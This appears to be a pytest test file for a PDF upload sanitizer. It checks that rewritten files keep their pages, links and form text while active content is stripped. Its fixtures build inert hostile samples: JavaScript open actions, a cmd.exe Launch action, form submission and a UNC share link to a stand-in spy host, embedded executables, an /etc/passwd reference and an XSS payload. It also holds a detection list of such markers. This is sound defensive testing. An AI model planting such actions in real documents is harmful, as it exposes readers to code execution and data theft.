"""A PDF is written anew: what readers look at stays, and nothing is left that runs, opens, sends or carries something."""

from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.sent_files import PLAIN_PDF, a_pdf
from uploads import opening, refusals

PAGE_OF_HTML = b"<html><script>alert(document.domain)</script></html>"


@pytest.fixture
def written(tmp_path):
    """What becomes of a file, opened."""

    def write(content):
        (tmp_path / "upload").write_bytes(content)
        assert opening.write_anew(tmp_path / "upload", tmp_path / "written") == "pdf"
        return pikepdf.open(tmp_path / "written")

    return write


def an_action(kind, **entries):
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **entries)


def annotated(document, *annotations):
    document.pages[0].obj.Annots = Array([document.make_indirect(one) for one in annotations])


def a_link(action):
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)


def at_opening(document):
    document.Root.OpenAction = an_action("JavaScript", JS=String("app.alert(1)"))


def at_each_page(document):
    document.pages[0].obj.AA = Dictionary(O=an_action("URI", URI=String("https://spy.example/")))


def in_the_names(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("a"), an_action("JavaScript", JS=String("x()"))]))


def behind_a_harmless_link(document):
    following = an_action("Launch", F=String("cmd.exe"))
    annotated(document, a_link(an_action("URI", URI=String("https://a.example/"), Next=Array([following]))))


def as_a_file_attached(document):
    document.attachments["form.exe"] = b"MZ"


def as_a_file_pinned_to_the_page(document):
    file = document.make_stream(b"MZ virus")
    named = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file))
    annotated(document, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=named))


def as_a_film(document):
    annotated(document, Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=Dictionary()))


def in_a_field(document):
    field = Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=an_action("JavaScript", JS=String("steal()"))))
    document.Root.AcroForm = Dictionary(Fields=[document.make_indirect(field)], XFA=String("<xdp/>"))


def of_a_button(document):
    annotated(document, a_link(an_action("SubmitForm", F=String("https://spy.example/"))))


def to_a_share(document):
    annotated(document, a_link(an_action("GoToR", F=String("\\\\spy.example\\share\\a.pdf"))))


def of_another_file(document):
    stream = document.make_stream(b"")
    stream["/F"] = String("/etc/passwd")
    document.pages[0].obj.Contents = stream


ACTIVE = [
    *(at_opening, at_each_page, in_the_names, behind_a_harmless_link, as_a_file_attached, as_a_file_pinned_to_the_page),
    *(as_a_film, in_a_field, of_a_button, to_a_share, of_another_file),
]
SIGNS = ("/JS", "/JavaScript", "/Launch", "/SubmitForm", "/GoToR", "/EF", "/EmbeddedFiles", "/FileAttachment", "/RichMedia")
SIGNS += ("/AA", "/OpenAction", "/XFA", "spy.example", "passwd", "MZ")


def everything_in(document):
    """Each object in the words of the format, and what each stream holds."""
    plain = BytesIO()
    document.save(plain, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.getvalue().decode("latin-1")


@pytest.mark.parametrize("change", ACTIVE)
def test_nothing_active_is_left_wherever_it_hides(written, change):
    sent = a_pdf(change=change).read()
    with pikepdf.open(BytesIO(sent)) as before:
        assert any(sign in everything_in(before) for sign in SIGNS)
    with written(sent) as document:
        assert [sign for sign in SIGNS if sign in everything_in(document)] == []
        assert len(document.pages) == 1


def test_an_action_that_nothing_known_points_to_is_disarmed_too(written):
    def change(document):
        document.pages[0].obj.Resources = Dictionary(Strange=Dictionary(Deep=an_action("Launch", F=String("cmd.exe"))))

    with written(a_pdf(change=change).read()) as document:
        assert "cmd.exe" not in everything_in(document)


def test_links_and_places_within_the_document_stay(written):
    addresses = ["https://school.example/jobs", "mailto:head@school.example", "tel:01632960900", "www.school.example"]

    def change(document):
        here = an_action("GoTo", D=Array([document.pages[0].obj, Name.Fit]))
        annotated(document, *[a_link(an_action("URI", URI=String(one))) for one in addresses], a_link(here))

    with written(a_pdf(change=change).read()) as document:
        actions = [one.A for one in document.pages[0].obj.Annots]
        assert [str(one.URI) for one in actions[:-1]] == addresses
        assert str(actions[-1].S) == "/GoTo"


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "file:///c:/windows/a.exe", "\\\\spy\\share", "java\nscript:x", "a.exe"]
)
def test_a_link_to_anything_else_becomes_words(written, address):
    sent = a_pdf(change=lambda one: annotated(one, a_link(an_action("URI", URI=String(address)))))
    with written(sent.read()) as document:
        assert "/A" not in document.pages[0].obj.Annots[0]


def test_a_form_can_still_be_filled_in_and_no_longer_claims_a_signature(written):
    def change(document):
        text = Dictionary(FT=Name.Tx, T=String("name"), V=String("A. Reader"), Subtype=Name.Widget, Rect=[0, 0, 9, 9])
        signed = Dictionary(FT=Name.Sig, T=String("head"), V=Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3]))
        fields = [document.make_indirect(text), document.make_indirect(signed)]
        document.Root.AcroForm = Dictionary(Fields=fields, NeedAppearances=True)
        document.pages[0].obj.Annots = Array(fields[:1])

    with written(a_pdf(change=change).read()) as document:
        text, signed = document.Root.AcroForm.Fields
        assert (str(text.V), "/V" in signed, len(document.pages[0].obj.Annots)) == ("A. Reader", False, 1)


def test_a_file_that_is_locked_against_changes_only_is_taken(written):
    with written(a_pdf(encryption=pikepdf.Encryption(owner="a", user="")).read()) as document:
        assert (document.is_encrypted, len(document.pages)) == (False, 1)


@pytest.mark.parametrize(
    "content",
    [
        PLAIN_PDF,
        b"\xef\xbb\xbf" + PLAIN_PDF,
        b"\r\n" + PLAIN_PDF,
        b"Content-Type: application/pdf\r\nX-Portal: 1\r\n\r\n" + PLAIN_PDF,
        PLAIN_PDF + b"\0" * 4096,
        PLAIN_PDF + b"\r\n--boundary--\r\n",
        PLAIN_PDF[: PLAIN_PDF.index(b"%%EOF")],
        b"%" * 1000 + b"\n" + PLAIN_PDF,
    ],
)
def test_what_stands_around_a_pdf_is_forgiven_and_left_out(written, tmp_path, content):
    with written(content) as document:
        assert len(document.pages) == 1
    assert (tmp_path / "written").read_bytes()[:5] == b"%PDF-"
    assert (tmp_path / "written").read_bytes().endswith(b"%%EOF\n")


def test_the_same_file_is_written_the_same_way_each_time(tmp_path):
    (tmp_path / "upload").write_bytes(PLAIN_PDF)
    for name in ("first", "second"):
        opening.write_anew(tmp_path / "upload", tmp_path / name)
    assert (tmp_path / "first").read_bytes() == (tmp_path / "second").read_bytes()


def without_pages(document):
    del document.pages[0]


def as_a_portfolio(document):
    document.Root.Collection = Dictionary(Type=Name.Collection)


def shown_by_one_program(document):
    document.Root.NeedsRendering = True


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"%PDF-1.7\n" + PAGE_OF_HTML, refusals.PDF_DAMAGED),
        (b"%PDF-1.7\n" + bytes(range(256)) * 20, refusals.PDF_DAMAGED),
        (PLAIN_PDF[:60], refusals.PDF_DAMAGED),
        (a_pdf(change=without_pages).read(), refusals.PDF_EMPTY),
        (a_pdf(change=as_a_portfolio).read(), refusals.PDF_PORTFOLIO),
        (a_pdf(change=shown_by_one_program).read(), refusals.PDF_XFA),
        (a_pdf(encryption=pikepdf.Encryption(owner="a", user="b")).read(), refusals.PDF_LOCKED),
        (b"\n" * 1025 + PLAIN_PDF, refusals.NEITHER),
    ],
)
def test_what_cannot_be_written_anew_is_refused_with_what_to_do(tmp_path, content, sentence):
    (tmp_path / "upload").write_bytes(content)
    with pytest.raises(refusals.Refused) as refusal:
        opening.write_anew(tmp_path / "upload", tmp_path / "written")
    assert str(refusal.value) == sentence


def test_html_with_the_bones_of_a_pdf_loses_its_html(written, tmp_path):
    with written(PLAIN_PDF.replace(b"\n1 0", b"\n" + PAGE_OF_HTML + b"\n1 0", 1)):
        assert b"<script" not in (tmp_path / "written").read_bytes()
